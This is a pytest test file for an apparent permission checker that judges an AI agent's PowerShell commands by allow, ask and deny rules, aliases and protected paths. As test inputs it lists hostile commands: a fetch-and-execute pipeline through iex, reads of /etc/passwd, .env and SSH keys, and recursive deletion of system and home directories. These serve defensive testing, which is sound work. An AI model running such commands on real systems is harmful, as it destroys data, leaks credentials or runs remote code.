"""The PowerShell check, statement by statement of the documents (3.1 to 3.5), and construct by construct."""

from __future__ import annotations

from collections.abc import Callable, Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolaudit.model import Behavior, Decision, ReasonType
from toolaudit.permissions import HookVerdict
from toolaudit.permissions.powershell.aliases import canonical_text
from toolaudit.permissions.powershell.matching import suspended
from toolaudit.permissions.powershell.reader import read

Ask = Callable[..., Decision]


@pytest.fixture(scope="session")
def run(ask: Ask) -> Ask:
    def question(command: str, **given: object) -> Decision:
        return ask(("PowerShell", {"command": command}), **given)

    return question


def lines(text: str) -> list[str]:
    return text.strip().splitlines()


RULES = [
    # rule, command, whether the rule as an allow rule grants it
    ("git push", "git push", True),
    ("git push", "git push origin", False),
    ("git push", "GIT Push", True),
    ("git push *", "git push", True),
    ("git push *", "git push origin main", True),
    ("git push *", "git   push   origin", True),
    ("git push:*", "git push origin", True),
    ("git push:*", "git pushx", False),
    ("git*", "gitk", True),
    ("* --version", "node --version", True),
    ("Get-Thing *", "get-thing x", True),
    ("git.exe *", "git.exe status", True),
    ("git *", "git.exe status", False),
    ("git *", ".\\git status", False),
    ("Copy-Item *", "cp a.txt b.txt", True),
    ("Copy-Item *", "copy a.txt b.txt", True),
    ("cp *", "Copy-Item a.txt b.txt", True),
    ("cp:*", "copy-item a.txt b.txt", True),
    ("Stop-Process *", "kill 12", True),
    ("Invoke-*", "iwr https://example.org", True),
    ("npm test", "npm test 2>&1", True),
    ("npm test", "npm test > $null", True),
    ("npm test", "npm test 2>$null", True),
    ("npm *", "npm test; git push", False),
    ("npm *", "npm test | git push", False),
    ("npm *", "npm test && git push", False),
    ("npm *", "npm test || git push", False),
    ("npm *", "npm test\ngit push", False),
    ("npm *", "npm test; npm run x", True),
    ("npm *", "npm test | Select-Object -Last 3", True),
    ("npm *", "npm test 'a; b'", True),
    ("npm *", "npm test # git push", True),
    ("npm *", "npm test @'\na; b\n'@", True),
]


@pytest.mark.parametrize(("rule", "command", "granted"), RULES, ids=lambda value: repr(value))
def test_allow_rules(run: Ask, rule: str, command: str, granted: bool) -> None:
    """Shapes, case, aliases, separators: 3.1; programs by `.exe`: 3.2."""
    decision = run(command, allow=[f"PowerShell({rule})"])
    assert decision.behavior == ("allow" if granted else "ask")
    assert not granted or (decision.rule is not None and decision.rule.text == f"PowerShell({rule})")


DENIED = lines(r"""
git push
GIT PUSH origin
git.exe push
C:\bin\git.exe push
/usr/bin/git push
git 'push' x
npm test; git push
npm test | git push
npm test && git push
& git push
& 'git' push
. git push
g`it push
$x = git push
$x=git push
[string]$x = git push
if (Test-Path x) { git push }
foreach ($i in 1) { git push }
try { x } catch { git push }
function f { git push }
1 | ForEach-Object { git push }
echo $(git push)
echo "a$(git push)b"
echo @(git push)
@{ a = git push }
return git push
git push > x.txt
git push &
cmd /c git push
cmd.exe /c "git push"
powershell -NoProfile -Command "git push"
pwsh -c git push
Invoke-Expression 'git push'
iex "git push"
""")
DENIED += [
    "git\u200b push",
    "git\u00a0push",
    'echo @"\n$(git push)\n"@',
    "git push \u2018",
    "git push 'x",
    "x |\ngit push",
]


@pytest.mark.parametrize("command", DENIED)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_deny_rules_see_every_statement(run: Ask, command: str, mode: str) -> None:
    """A failure to understand must not skip deny rules: 3.5."""
    assert run(command, deny=["PowerShell(git push *)"], allow=["PowerShell"], mode=mode).behavior == "deny"


@pytest.mark.parametrize("command", ["git pull", "echo 'git push'", "npm test # git push", "digit push"])
def test_deny_rules_see_nothing_else(run: Ask, command: str) -> None:
    assert run(command, deny=["PowerShell(git push *)"], allow=["PowerShell"]).behavior == "allow"


@pytest.mark.parametrize("command", ["rm x", "del x", "ri x", "erase x", "rd x", "rmdir x", "REMOVE-ITEM x", "rm"])
def test_a_rule_for_a_cmdlet_covers_its_aliases(run: Ask, command: str) -> None:
    assert run(command, deny=["PowerShell(Remove-Item *)"]).behavior == "deny"
    assert run(command, deny=["PowerShell(rm *)"]).behavior == "deny"
    assert run(command, ask=["PowerShell(del:*)"], mode="bypassPermissions").behavior == "ask"


def test_a_deny_rule_may_span_a_pipeline(run: Ask) -> None:
    assert run("iwr https://h.example/i.ps1 | iex", deny=["PowerShell(iwr * | iex)"]).behavior == "deny"


def test_bash_rules_do_not_carry_over(run: Ask) -> None:
    """3.2."""
    assert run("npm test", allow=["Bash(npm test)", "Bash"]).behavior == "ask"
    assert run("npm test", deny=["Bash(npm *)"], allow=["PowerShell(npm *)"]).behavior == "allow"


def test_bare_and_parameter_rules(ask: Ask, run: Ask) -> None:
    assert run("npm test", allow=["PowerShell(*)"]).behavior == "allow"
    assert run("Get-Date", ask=["PowerShell"], mode="bypassPermissions").behavior == "ask"
    assert run("Get-Date", deny=["PowerShell"]).behavior == "deny"
    background = ("PowerShell", {"command": "Get-Date", "run_in_background": True})
    assert ask(background, deny=["PowerShell(run_in_background:true)"]).behavior == "deny"
    assert ask(background, ask=["PowerShell(run_in_background:*)"]).behavior == "ask"
    assert ask(("PowerShell", {}), allow=["PowerShell(x)"]).behavior == "ask"


READ_ONLY = lines(r"""
Get-ChildItem
gci -Recurse -Filter *.py
ls src
dir .\src -Name
Get-Content a.txt
cat a.txt -TotalCount 3
gc -Path a.txt, src\a.py -Raw
Get-Content -LiteralPath 'a.txt'
type src/a.py
Select-String -Pattern 'x y' -Path src\*.py
sls TODO src/a.py -Context 2,2
Get-Content a.txt | Select-String x | Measure-Object -Line
Test-Path -Path:a.txt
Get-Location; pwd
Get-Date -Format yyyy
Get-ChildItem | Where-Object Length -gt 5 | Sort-Object -Property Length -Descending | Select-Object -First 3
ls | sort Length
ps | ft -AutoSize
Write-Output hello 'two words'
echo "hi" 2>&1
Get-ChildItem 2>$null
Get-Item a.txt -ErrorAction SilentlyContinue
Set-Location src
cd src; Get-Content a.py
Microsoft.PowerShell.Management\Get-ChildItem
Get-ChildItem # everything
""")

NOT_READ_ONLY = lines(r"""
Get-Content C:\Users\x\secret.txt
Get-Content /etc/passwd
Get-Content ~\notes.txt
Get-Content ..\x
Get-Content src\..\..\x
Get-Content a.txt,/etc/passwd
Get-Content -Path:/etc/passwd
Get-Content a.txt -Wait
Get-Content a.txt:stream
Get-Content \\server\share\x
Get-Content \??\C:\x
Get-Content HKLM:\Software
Get-Content Env:PATH
Get-Content C:x
Get-Content PROGRA~1\x
Get-Content ~dana/x
Get-Content -Unknown a.txt
Get-Content a.txt b.txt
Get-ChildItem src\*\..\..
Write-Output /etc/passwd | Get-Content
Import-Csv a.txt | Select-String x
Get-ChildItem | ForEach-Object Delete
Get-ChildItem | Remove-Item
Where-Object -FilterScript x
sort /etc/passwd
ls -Include /root
cd /
cd -
sl +
Set-Location
Pop-Location; Get-Content a.txt
cd src; Get-Content ..\..\x
Get-Command git
Get-DnsClientCache
ipconfig /displaydns
Copy-Item a.txt b.txt
Invoke-WebRequest https://example.org
Tools\Get-Content a.txt
.\Get-Content.ps1 a.txt
git status
whoami
Get-Content a.txt -TotalCount
Get-Content -Path
""")


@pytest.mark.parametrize("command", READ_ONLY)
def test_read_only(run: Ask, command: str) -> None:
    assert run(command).behavior == "allow"
    assert run(command, mode="dontAsk").behavior == "allow"


@pytest.mark.parametrize("command", NOT_READ_ONLY)
def test_not_read_only(run: Ask, command: str) -> None:
    assert run(command).behavior == "ask"


def test_windows_paths_are_compared_as_posix(run: Ask) -> None:
    r"""`C:\U` is `/c/U`: 4.9."""
    read_env = r"Get-Content C:\proj\.env"
    assert run(read_env, deny=["Read(//c/**/.env)"], mode="bypassPermissions").behavior == "deny"
    assert run(r"gc \\?\C:\proj\.env", deny=["Read(//c/**/.env)"], mode="bypassPermissions").behavior == "deny"
    assert run(read_env, allow=["Read(//c/proj/**)"]).behavior == "allow"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("gc .env", "Read(.env)"),
        ("gc $HOME/.ssh/key", "Read(~/.ssh/**)"),
        ("gc ${env:USERPROFILE}\\.ssh\\key", "Read(~/.ssh/**)"),
        ("$x = Get-Content .env", "Read(.env)"),
        ("cd src; gc a.py", "Read(/src/**)"),
        ("Set-Content a.txt x", "Edit(a.txt)"),
        ("'x' | Out-File -FilePath a.txt", "Edit(a.txt)"),
        ("Copy-Item b.txt a.txt", "Edit(a.txt)"),
        ("Copy-Item .env b.txt", "Read(.env)"),
        ("npm test > a.txt", "Edit(a.txt)"),
        ("iwr https://example.org -OutFile a.txt", "Edit(a.txt)"),
    ],
)
def test_deny_rules_for_paths(run: Ask, command: str, rule: str) -> None:
    """4.2."""
    decision = run(command, deny=[rule], mode="bypassPermissions")
    assert decision.behavior == "deny"
    assert decision.rule is not None
    assert decision.rule.text == rule


NOT_UNDERSTOOD = [
    ("echo $(Get-Date)", "subexpression"),
    ("echo (Get-Date)", "bracket"),
    ("Get-ChildItem | ForEach-Object { $_ }", "script block"),
    ("echo $x", "variable"),
    ("echo ${x}", "variable"),
    ("echo $env:PATH", "variable"),
    ('echo "$x"', "variable"),
    ('echo "a`nb"', "escaped"),
    ('echo @"\n$x\n"@', "variable"),
    ("echo $null.x", "variable"),
    ("& echo x", "call operator"),
    (". .\\a.ps1", "dot"),
    ("ec`ho x", "backtick"),
    ("echo `\nx", "backtick"),
    ("[IO.File]::Delete('x')", "bracket"),
    ("[IO.File]::Delete", "expression"),
    ("$x = 1", "assignment"),
    ("$x += 1", "assignment"),
    ("$env:X = 1", "assignment"),
    ("$PSDefaultParameterValues['*:Path'] = 'x'", "assignment"),
    ("echo x > a.txt", "redirection"),
    ("echo x >> a.txt", "redirection"),
    ("echo x *> a.txt", "redirection"),
    ("echo x 2>a.txt", "redirection"),
    ("echo x >", "redirection"),
    ("Get-Content < a.txt", "`<`"),
    ("if", "control flow"),
    ("return", "control flow"),
    ("foreach x", "control flow"),
    ("function f", "control flow"),
    ("echo @args", "splats"),
    ("echo @{}", "bracket"),
    ("'x'", "expression"),
    ("'x' | echo", "expression"),
    ("1 + 1", "expression"),
    ("-not x", "expression"),
    ("!x", "expression"),
    ("ec'ho' x", "name is not written plainly"),
    ("echo --% x", "--%"),
    ("echo <# x #> y", "block comment"),
    ("echo 'a'b", "closing quote"),
    ("echo 'a", "never closed"),
    ('echo "a', "never closed"),
    ("echo @'\na", "never closed"),
    ("echo (a", "bracket"),
    ("echo a)", "never opened"),
    ("echo a ,b", "list"),
    ("echo ‘a’", "typographic"),
    ("echo a –b", "typographic"),
    ("echo\u00a0a", "typographic"),
    ("echo a\u200bb", "invisible"),
    ("echo a\U000e0041", "invisible"),
    ("echo \x1b[1m", "invisible"),
    ("echo \ud800", "invisible"),
    ("echo \x00", "invisible"),
    ("git commit -m 'say \"hi\" now'", "quote and a blank"),
    ("echo " + "x" * 10_000, "longer than"),
]


@pytest.mark.parametrize(("command", "reason"), NOT_UNDERSTOOD, ids=lambda value: ascii(value)[:60])
def test_what_is_not_understood_asks(run: Ask, command: str, reason: str) -> None:
    """3.5 for what is invisible and for quotes with blanks; the rest by choice, since only asking is safe."""
    decision = run(command, allow=["PowerShell(* *)", "PowerShell(*x)", "PowerShell(if)", f"PowerShell({command})"])
    assert decision.behavior == "ask"
    assert decision.reason_type is ReasonType.OTHER
    assert reason in decision.why
    assert run(command, allow=["PowerShell"]).behavior == "allow"


UNDERSTOOD = [
    ("a -b:$false; c $true $null", [["a", "-b:$false"], ["c", "$true", "$null"]]),
    ("a 'it''s' \"x\"\"y\"", [["a", "it's", 'x"y']]),
    ("a x#y # z", [["a", "x#y"]]),
    ("a \"$\" 'b|c;d'", [["a", "$", "b|c;d"]]),
    ("a @'\nx\ny;z\n'@ b", [["a", "x\ny;z", "b"]]),
    ("a x,'y',z", [["a", "x,y,z"]]),
    ("a |\n b", [["a"], ["b"]]),
    ("a 2>&1 3 *>$null\r\nb", [["a", "3"], ["b"]]),
    ("a x@y --z=1 [b]", [["a", "x@y", "--z=1", "[b]"]]),
    ("; ;a;;", [["a"]]),
    ("", []),
]


@pytest.mark.parametrize(("command", "statements"), UNDERSTOOD, ids=lambda value: repr(value))
def test_reading(command: str, statements: list[list[str]]) -> None:
    reading = read(command)
    assert reading.complexity is None
    assert [[word.value for word in statement.words] for statement in reading.statements] == statements


EDITS = lines(r"""
Set-Content a.txt x
Set-Content -Path 'a b.txt' -Value 'two words' -NoNewline
sc src\a.py x
Get-Content a.txt | Set-Content b.txt
ac a.txt x
Clear-Content a.txt
clc .\a.txt
Remove-Item src -Recurse -Force
rm a.txt,src\a.py
del a.txt -Confirm:$false
rd src
""")


@pytest.mark.parametrize("command", EDITS)
def test_edits(run: Ask, command: str) -> None:
    """3.3."""
    assert run(command).behavior == "ask"
    assert run(command, mode="plan").behavior == "deny"
    assert run(command, mode="acceptEdits").behavior == "allow"
    assert run(command, mode="auto").behavior == "allow"


EDITS_THAT_ASK = lines(r"""
Set-Content 'a.txt' x
Set-Content a.txt 'x'
Set-Content a.txt "x"
Set-Content -Path "it's" -Value x
Remove-Item "a.txt"
Set-Content ..\a.txt x
Set-Content /tmp/a.txt x
Set-Content C:\a.txt x
Add-Content ~/a.txt x
Set-Content *.txt x
Remove-Item *.txt
Remove-Item .git\config
Set-Content .bashrc x
Set-Content .claude\settings.json x
Set-Content a.txt:stream x
Set-Content -Stream s -Path a.txt -Value x
Set-Content a.txt x y
cd src; Set-Content a.py x
Get-ChildItem | Remove-Item
Remove-Item . -Recurse
Remove-Item -Recurse -Path .\
Remove-Item Env:\X
New-Item x
Copy-Item a.txt b.txt
Out-File a.txt
rm -rf x
""")


@pytest.mark.parametrize("command", EDITS_THAT_ASK)
def test_edits_that_ask(run: Ask, command: str) -> None:
    """3.3 for quotes, scope and cmdlets; 3.4 for the working directory; 7 for protected paths."""
    assert run(command, mode="acceptEdits").behavior == "ask"
    assert run(command, mode="bypassPermissions").behavior == "allow"


DENIED_REMOVALS = lines(r"""
Remove-Item /
Remove-Item \
rm /etc -Recurse
ri C:\ -Recurse -Force
ri C:
del D:/
Remove-Item C:\Windows
Remove-Item C:\Windows\System32\x.dll
Remove-Item "C:\Program Files\App" -Recurse
Remove-Item C:\Users
Remove-Item \\?\C:\Windows
Remove-Item FileSystem::C:\Windows
Remove-Item HKLM:\
Remove-Item ~
Remove-Item ~\ -Recurse
Remove-Item /home/dana
Remove-Item $HOME -Recurse
Remove-Item $env:USERPROFILE
Remove-Item ${env:ProgramFiles(x86)}
Remove-Item "$env:SystemRoot\System32"
Remove-Item *
Remove-Item /*
Remove-Item \*
Remove-Item src\*
Remove-Item src/* -Recurse
Remove-Item -Path:C:\
Remove-Item -LiteralPath C:\Windows
Remove-Item a.txt,C:\Windows
Remove-Item a.txt, C:\Windows
Remove-Item -Foo a.txt C:\Windows
Remove-Item (Get-Item x) C:\Windows
rm -rf /
rd /etc
Microsoft.PowerShell.Management\Remove-Item C:\Windows
& Remove-Item C:\Windows
if (x) { rm C:\Windows }
Get-Item x | ForEach-Object { rm C:\Windows }
cd C:\; Remove-Item Windows -Recurse
cmd /c rd /s /q C:\Windows
cmd /c "rmdir C:\Windows"
cmd.exe /c del C:\*
cmd /c erase %SystemRoot%
cmd /s /c rd C:\
powershell -Command "Remove-Item C:\Windows"
iex 'rm C:\Windows'
""")

OTHER_REMOVALS = lines(r"""
Remove-Item a.txt
Remove-Item *.txt
Remove-Item src -Exclude * -Recurse
Remove-Item src -Include *
Remove-Item C:\work\x
Remove-Item C:\Users\dana\x
Remove-Item ~\x
Remove-Item .
Remove-Item . -Recurse
Remove-Item $x
cmd /c rd /s /q build
cmd /c del *
cmd /c dir C:\Windows
echo 'Remove-Item C:\Windows'
""")


@pytest.mark.parametrize("command", DENIED_REMOVALS)
@pytest.mark.parametrize("mode", ["default", "acceptEdits", "plan", "dontAsk", "auto", "bypassPermissions"])
def test_removals_denied_in_every_mode(run: Ask, command: str, mode: str) -> None:
    """3.4."""
    allowing = HookVerdict(Behavior.ALLOW)
    decision = run(command, mode=mode, allow=["PowerShell"], classifier="allow", hook=allowing)
    assert (decision.behavior, decision.reason_type) == ("deny", ReasonType.SAFETY_CHECK)


@pytest.mark.parametrize("command", OTHER_REMOVALS)
def test_other_removals(run: Ask, command: str) -> None:
    assert run(command, mode="bypassPermissions").behavior == "allow"


def test_background_asks(run: Ask) -> None:
    """3.5; a classifier may approve it: 9.5.10."""
    decision = run("Get-Date &", allow=["PowerShell"])
    assert (decision.behavior, decision.reason_type) == ("ask", ReasonType.SAFETY_CHECK)
    assert run("Get-Date &", mode="auto", classifier="allow").behavior == "allow"
    assert run("Get-Date &", mode="bypassPermissions").behavior == "allow"


REASONS = [
    ("git push", {}, ReasonType.OTHER),
    ("Set-Content a.txt x", {}, None),
    ("git push; npm test", {}, ReasonType.SUBCOMMAND_RESULTS),
    ("Get-Content /etc/passwd", {}, None),
    ("Get-Content /etc/passwd; Get-Date", {}, None),
    ("Get-Content /etc/passwd; git push", {}, ReasonType.SUBCOMMAND_RESULTS),
    ("git push", {"deny": ["PowerShell(git push)"]}, ReasonType.RULE),
    ("git push x", {"deny": ["PowerShell(git push *)"]}, ReasonType.SUBCOMMAND_RESULTS),
    ("git push (x)", {"deny": ["PowerShell(git push *)"]}, ReasonType.RULE),
    ("gc .env", {"deny": ["Read(.env)"]}, ReasonType.SUBCOMMAND_RESULTS),
    ("git push x", {"ask": ["PowerShell(git push *)"]}, ReasonType.RULE),
    ("git push x; npm test", {"ask": ["PowerShell(git push *)"]}, ReasonType.SUBCOMMAND_RESULTS),
    ("echo (git push)", {"ask": ["PowerShell(echo *)"]}, ReasonType.OTHER),
    ("Get-Date", {"ask": ["PowerShell"]}, ReasonType.RULE),
    ("echo $x", {"ask": ["PowerShell"]}, ReasonType.OTHER),
    ("Set-Content .bashrc x", {"allow": ["PowerShell"]}, ReasonType.SAFETY_CHECK),
]


@pytest.mark.parametrize(("command", "rules", "kind"), REASONS, ids=lambda value: repr(value))
def test_reason_types(run: Ask, command: str, rules: dict[str, Iterable[str]], kind: ReasonType | None) -> None:
    """Those of the Bash check in the same situations."""
    decision = run(command, **rules)
    assert decision.behavior != "allow"
    assert decision.reason_type is kind


def test_each_statement_has_its_outcome(run: Ask) -> None:
    decision = run("Get-Date; git push", allow=["PowerShell(npm *)"])
    assert [(outcome.subject, outcome.behavior) for outcome in decision.subcommands] == [
        ("Get-Date", "allow"),
        ("git push", "ask"),
    ]
    denied = run("Get-Date; git push", deny=["PowerShell(git *)"])
    assert [outcome.behavior for outcome in denied.subcommands] == ["allow", "deny"]


def test_git_after_a_directory_change(run: Ask) -> None:
    assert run("cd src; git status", allow=["PowerShell(git *)"]).behavior == "ask"
    assert run("cd .; git status", allow=["PowerShell(git *)"]).behavior == "allow"


SUSPENDED = lines("""
python *
python3.11 -c *
pwsh *
powershell -Command *
Invoke-Expression *
iex:*
cmd /c *
npm run *
Start-Process*
saps *
C:\\py\\python.exe *
p*
*
""")


@pytest.mark.parametrize("specifier", SUSPENDED)
def test_auto_suspends_rules_that_start_anything(specifier: str) -> None:
    """9.5.4."""
    assert suspended(specifier)


@pytest.mark.parametrize("specifier", ["git *", "npm test", "npm test *", "python a.py", "python a.py *", "shutdown *"])
def test_auto_keeps_other_rules(specifier: str) -> None:
    assert not suspended(specifier)


def test_auto_goes_by_the_rules_in_force(run: Ask) -> None:
    assert run("git push", mode="auto", allow=["PowerShell(git *)"]).behavior == "allow"
    assert run("git push", mode="auto", allow=["PowerShell"]).behavior == "deny"
    assert run("python x", mode="auto", allow=["PowerShell(python *)"]).behavior == "deny"
    assert run("python x", mode="default", allow=["PowerShell(python *)"]).behavior == "allow"


HUGE = ["$(" * 60_000, "a;" * 60_000, '"$(' * 40_000, "'" * 131_071, "a," * 60_000, "{a " * 40_000, "`" * 131_000]


@pytest.mark.parametrize("command", HUGE, ids=lambda command: command[:3])
def test_huge_texts_end_in_a_decision(run: Ask, command: str) -> None:
    assert run(command, deny=["PowerShell(git *)"]).behavior == "ask"


def test_a_text_too_long_to_be_read_is_approved_by_nothing(run: Ask) -> None:
    command = "x;" * 5_000_000
    assert run(command, allow=["PowerShell"], mode="bypassPermissions").behavior == "ask"
    assert run(command, allow=["PowerShell"], mode="auto", classifier="allow").behavior == "deny"


PIECES = [
    "git push",
    "rm",
    "a",
    " ",
    ";",
    "|",
    "&",
    "'",
    '"',
    "$(",
    "(",
    ")",
    "{",
    "}",
    "$x",
    "`",
    ",",
    ">",
    "@'",
    "\n",
    "#",
]
PIECES += ["@", "-P:", "=", "--%", "C:\\", "<#", "[a]", "$null", "2>&1", "\u200b", "\u2018"]


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join) | st.text(max_size=20))
def test_any_text_is_read_to_its_end(run: Ask, text: str) -> None:
    """What is understood has the same statements when a separator is put after it; and any text gets a decision."""
    assert run(text).behavior in ("allow", "ask", "deny")
    reading = read(text)
    if reading.complexity is None:
        assert [s.words for s in read(text + "\n;").statements] == [s.words for s in reading.statements]


@given(st.text(max_size=20))
def test_full_names_are_their_own(text: str) -> None:
    assert canonical_text(canonical_text(text)) == canonical_text(text)
